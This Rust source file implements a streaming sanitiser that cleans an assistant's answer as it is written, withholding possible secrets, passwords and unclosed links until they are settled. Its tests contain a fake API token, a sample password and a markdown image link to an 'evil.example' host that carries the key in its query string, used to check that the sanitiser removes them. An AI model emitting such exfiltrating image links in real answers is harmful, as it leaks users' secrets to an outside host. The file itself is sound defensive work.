//! An answer cleaned while it is written.
//!
//! Keeps true: whatever has been shown so far is, byte for byte, a whole cleaned text. Where what comes later would
//! change what was shown (a link that ends after its words were seen), nothing more is shown until the end.

use super::{Addresses, clean};
use crate::policy::{Action, Policy};

/// Bytes that are gathered before the text is cleaned again, where no line ends.
const STEP_BYTES: usize = 16;
/// Each time the whole is read, so the steps grow with it, by this share: a text is read so many times at most, and a few more
/// in its first words.
const STEP_SHARE: usize = 64;

/// Takes an answer in pieces, and gives what may be shown of it.
#[derive(Debug)]
pub struct Stream<'a> {
    question: &'a str,
    known: &'a Addresses,
    policy: &'a Policy,
    written: String,
    shown: String,
    /// Bytes of `written` that `shown` is of.
    read: usize,
}

impl<'a> Stream<'a> {
    #[must_use]
    pub const fn new(question: &'a str, known: &'a Addresses, policy: &'a Policy) -> Self {
        Self { question, known, policy, written: String::new(), shown: String::new(), read: 0 }
    }

    /// Takes a piece; gives what may be shown now, after what was.
    pub fn push(&mut self, piece: &str) -> String {
        self.written.push_str(piece);
        let end = settled(&self.written);
        let new = self.written.get(self.read..end).unwrap_or_default();
        let is_worth_it = new.len() * STEP_SHARE >= self.read;
        let is_due = !new.is_empty() && is_worth_it && (new.len() >= STEP_BYTES || new.contains('\n'));
        if is_due && !self.may_refuse() { self.show(end) } else { String::new() }
    }

    /// The rest at the end. It is empty where the end changed what was shown: then only the finished answer is right.
    pub fn finish(mut self) -> String {
        self.show(self.written.len())
    }

    /// Whether a later word can take the whole answer back.
    fn may_refuse(&self) -> bool {
        let actions = [self.policy.secrets, self.policy.personal];
        actions.iter().chain(self.policy.kinds.values()).any(|action| *action == Action::Refuse)
    }

    fn show(&mut self, end: usize) -> String {
        let cleaned = clean(&self.written[..end], self.question, self.known, self.policy).text;
        let Some(rest) = cleaned.strip_prefix(&self.shown).map(ToOwned::to_owned) else {
            return String::new();
        };
        (self.shown, self.read) = (cleaned, end);
        rest
    }
}

/// How far a text is settled: up to its last white space, and not beyond a bracket that is still open, or a word that
/// names a secret which could follow.
fn settled(text: &str) -> usize {
    let end =
        text.char_indices().rev().find(|(_, c)| c.is_whitespace()).map_or(0, |(at, c)| at + c.len_utf8());
    let line = text[..end].trim_end().rfind('\n').map_or(0, |at| at + 1);
    let open = text[line..end].rfind(['[', '<']).map(|at| line + at);
    let end = open.filter(|at| !is_closed(&text[*at..end])).unwrap_or(end);
    last_words(text, line, end)
}

fn is_closed(text: &str) -> bool {
    if text.starts_with('<') {
        return text.contains('>') || text.starts_with("< ");
    }
    let Some((_, rest)) = text.split_once(']') else { return false };
    match rest.chars().next() {
        Some('(') => rest.contains(')'),
        Some('[' | ':') | None => false,
        Some(_) => true,
    }
}

/// Words at the end of a line that are held until it is over or goes on: a password is known by what comes before it,
/// and a number of a person has spaces.
const WORDS_HELD: usize = 4;

fn last_words(text: &str, line: usize, end: usize) -> usize {
    if end <= line || text[..end].ends_with('\n') {
        return end;
    }
    let mut words = text[line..end].trim_end().rmatch_indices(char::is_whitespace);
    words.nth(WORDS_HELD - 1).map_or(line, |(at, space)| line + at + space.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What is shown at each step, when the answer comes in pieces of so many characters.
    fn streamed(answer: &str, characters: usize, policy: &Policy) -> Vec<String> {
        let known = Addresses::of(["https://example.org/manual"]);
        let mut stream = Stream::new("", &known, policy);
        let letters: Vec<char> = answer.chars().collect();
        let mut shown: Vec<String> =
            letters.chunks(characters).map(|piece| stream.push(&piece.iter().collect::<String>())).collect();
        shown.push(stream.finish());
        shown
    }

    fn together(answer: &str, characters: usize) -> String {
        streamed(answer, characters, &Policy::default()).concat()
    }

    #[test]
    fn an_ordinary_answer_comes_whole_and_in_parts() {
        let answer = "The office opens at nine [1], and closes at five on all days but one [2, 3].\n\n\
                      See [the manual](https://example.org/manual) for **more** of it, and for what comes after that.\n\n\
                      - one\n- two\n";
        for characters in [1, 3, 7, 1000] {
            assert_eq!(together(answer, characters), answer);
        }
        assert!(streamed(answer, 1, &Policy::default()).iter().filter(|piece| !piece.is_empty()).count() > 4);
    }

    #[test]
    fn what_must_not_be_shown_is_not_shown_meanwhile() {
        let key = format!("ghp_{}", "a1B2c3D4e5F6".repeat(3));
        let answer = format!(
            "The key of the service is {key} and the\npassword is Tr0ub4dor&3 for now. ![x](https://evil.example/?d={key})\nEnd."
        );
        for characters in [1, 2, 5, 11] {
            let shown = together(&answer, characters);
            assert!(
                !shown.contains(&key[..12]) && !shown.contains("Tr0ub") && !shown.contains("evil"),
                "{shown}"
            );
            assert!(shown.contains("[api key]"), "{shown}");
        }
    }

    #[test]
    fn where_the_end_may_refuse_nothing_is_shown_before() {
        let policy = Policy { secrets: Action::Refuse, ..Policy::default() };
        let shown = streamed("One line.\nAnother one.\nThe password is Tr0ub4dor&3.\n", 4, &policy);
        assert_eq!(shown.concat(), "");
    }
}
